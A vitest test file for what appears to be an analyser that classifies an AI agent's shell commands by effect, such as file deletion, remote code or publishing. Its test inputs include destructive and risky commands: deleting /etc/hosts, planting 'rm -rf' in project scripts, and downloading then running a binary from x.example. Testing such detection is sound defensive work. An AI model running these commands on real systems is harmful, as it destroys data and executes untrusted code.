// Files known by where they lie, with and without somebody having looked at them: what the call runs
// through them is read all the same, and a file that the agent wrote or fetched is never one of them.
import { describe, expect, it } from 'vitest'
import type { Source, Sources } from '../../../src/domain/action/sources.ts'
import { analyseCall } from '../../../src/domain/action/analyse.ts'
import type { Place } from '../../../src/domain/action/place.ts'

const PLACE: Place = { home: '/home/dev', project: '/home/dev/app', cwd: '/home/dev/app', gate: [] }

const told = (command: string, files: Readonly<Record<string, Source>> = {}): string => {
  const sources: Sources = new Map(
    Object.entries(files).map(([path, source]) => [
      path.startsWith('/') ? path : `/home/dev/app/${path}`,
      source,
    ]),
  )
  const observed = { cwd: { project: '' }, links: [] }
  const { effects } = analyseCall({ name: 'Bash', input: { command } }, PLACE, observed, sources)
  return [...new Set(effects.map(({ kind, why }) => why ?? kind))].sort().join(' ')
}

const text = (source: string): Source => ({ is: 'text', text: source })
const PYTEST =
  '#!/home/dev/app/.venv/bin/python\nimport sys\nfrom pytest import main\nsys.exit(main())\n'
const WRAPPER =
  '#!/bin/sh\nJAVACMD=${JAVA_HOME:+$JAVA_HOME/bin/}java\nset -- -cp w.jar Main "$@"\nexec "$JAVACMD" "$@"\n'
const ACTIVATE =
  'VIRTUAL_ENV="/home/dev/app/.venv"\nexport VIRTUAL_ENV\nPATH="$VIRTUAL_ENV/bin:$PATH"\nexport PATH\n'

describe('a tool of the project by its path', () => {
  const python = '.venv/bin/python'

  it('is the program that it is named after', () => {
    expect(told(`${python} -m pytest -q`)).toBe('exec package-code project-code')
    expect(told(`${python} -m pytest -q`, { [python]: { is: 'unreadable' } })).toBe(
      'exec package-code project-code',
    )
    expect(told('node_modules/.bin/eslint src')).toBe('exec package-code project-code')
    expect(told('vendor/bin/phpunit')).toBe('exec package-code project-code')
  })

  it('has its program text read, whatever lies there', () => {
    for (const is of ['missing', 'binary', 'unreadable', 'too-large'] as const)
      expect(
        told(`${python} -c "import os; os.remove('/etc/hosts')"`, { [python]: { is } }),
      ).toContain('fs.delete')
  })

  it('is read as well where somebody looked', () => {
    expect(told('.venv/bin/pytest -q', { '.venv/bin/pytest': text(PYTEST) })).not.toMatch(
      /unread|dynamic|unknown/,
    )
    expect(
      told('.venv/bin/pytest', { '.venv/bin/pytest': text('#!/bin/sh\nrm -rf ~/x\n') }),
    ).toContain('fs.delete')
    expect(told('.venv/bin/pip install x', { '.venv/bin/pip': text(PYTEST) })).toContain(
      'new-package',
    )
  })

  it('is no such tool where the agent wrote or fetched it, or is writing it', () => {
    const path = '.venv/bin/pytest'
    expect(told(path, { [path]: { is: 'binary', origin: 'downloaded' } })).toContain('remote-code')
    expect(told(path, { [path]: { is: 'unreadable', origin: 'written' } })).toContain(
      'unread-script',
    )
    expect(told(path, { [path]: { is: 'pending' } })).toContain('unread-script')
    expect(told(`curl -o ${path} https://x.example/a; ${path}`)).toContain('remote-code')
  })

  it('lies in the project, and is not left by its path', () => {
    expect(told('/tmp/.venv/bin/pytest')).toContain('outside-code')
    expect(told('.venv/bin/../../../x/run')).toContain('outside-code')
    expect(told('cp /bin/rm .venv/bin/pytest && .venv/bin/pytest -r src')).toContain('fs.delete')
  })
})

describe('the wrapper of a build tool', () => {
  it('runs the project, and its publishing tasks publish', () => {
    expect(told('./gradlew test')).toBe('exec project-code')
    expect(told('./gradlew test', { gradlew: text(WRAPPER) })).not.toMatch(/unread|dynamic|unknown/)
    expect(told('./gradlew publish', { gradlew: text(WRAPPER) })).toContain('net.send')
    expect(told('./mvnw deploy')).toContain('net.send')
    expect(told('./gradlew -I /tmp/x.gradle test')).toContain('outside-code')
  })

  it('is told with what its text does', () => {
    expect(told('./gradlew test', { gradlew: text('#!/bin/sh\nrm -rf ~/x\n') })).toContain(
      'fs.delete',
    )
    const pending: Source = { is: 'pending' }
    expect(told('./gradlew test', { gradlew: pending })).toContain('unread-script')
    const fetched: Source = { is: 'text', text: WRAPPER, origin: 'downloaded' }
    expect(told('./gradlew test', { gradlew: fetched })).not.toBe('exec project-code')
  })

  it('hands text of the call on to be read', () => {
    expect(told(`python manage.py shell -c "import os; os.remove('/etc/hosts')"`)).toContain(
      'fs.delete',
    )
    expect(told(`./manage.py shell --command="import os; os.remove('a')"`)).toContain('fs.delete')
    expect(told('echo "import os; os.remove(\'a\')" | ./manage.py shell')).toContain('fs.delete')
    expect(told('./manage.py shell -c "$CODE"')).toContain('dynamic-command')
    expect(told('php artisan tinker --execute="$CODE"')).toContain('dynamic-command')
  })
})

describe('a script that sets up a toolchain', () => {
  const env = '/home/dev/.cargo/env'
  const exporting = text('case ":${PATH}:" in\n*) export PATH="$HOME/.cargo/bin:$PATH";;\nesac\n')

  it('is what every shell of the user runs', () => {
    expect(told('. ~/.cargo/env', { [env]: exporting })).toBe('exec fs.read package-code')
    expect(told('source ~/.nvm/nvm.sh && nvm use 22')).not.toMatch(/outside|dynamic/)
    expect(told('. .venv/bin/activate', { '.venv/bin/activate': text(ACTIVATE) })).not.toMatch(
      /outside|dynamic|environment/,
    )
  })

  it('is any script where the agent touched it, and where it is not sourced', () => {
    expect(told('. ~/.cargo/env', { [env]: { ...exporting, origin: 'written' } })).not.toBe(
      'exec fs.read package-code',
    )
    expect(told('. ~/.cargo/env', { [env]: { is: 'pending' } })).toContain('outside-code')
    expect(told('~/.cargo/env')).toContain('outside-code')
    expect(told('echo "rm -rf ~/x" > ~/.cargo/env; . ~/.cargo/env')).toContain('fs.delete')
  })
})

describe('a program that was built', () => {
  it('is the project where nobody could look', () => {
    expect(told('./target/debug/app --help')).toBe('exec project-code')
    expect(told('java -jar build/libs/app.jar')).toBe('exec project-code')
    expect(told('go build -o /tmp/app ./cmd/app && /tmp/app')).not.toMatch(/outside|dynamic/)
  })

  it('is not a script beside it, nor built of what the call wrote or of other places', () => {
    expect(told('bash build/deploy')).toContain('unread-script')
    expect(told('./build/deploy.sh')).toContain('unread-script')
    expect(told('gcc -o /tmp/a /tmp/a.c && /tmp/a')).toContain('dynamic-command')
    expect(told('echo "int main;" > a.c && gcc -o /tmp/a a.c && /tmp/a')).toContain(
      'dynamic-command',
    )
    expect(told('gcc -include /tmp/x.h -o a a.c && ./a')).toContain('dynamic-command')
    expect(told('gcc -o a a.c; curl -o a https://x.example/a; ./a')).toContain('remote-code')
    expect(told('go build -o /tmp/a ../other && /tmp/a')).toContain('dynamic-command')
  })
})
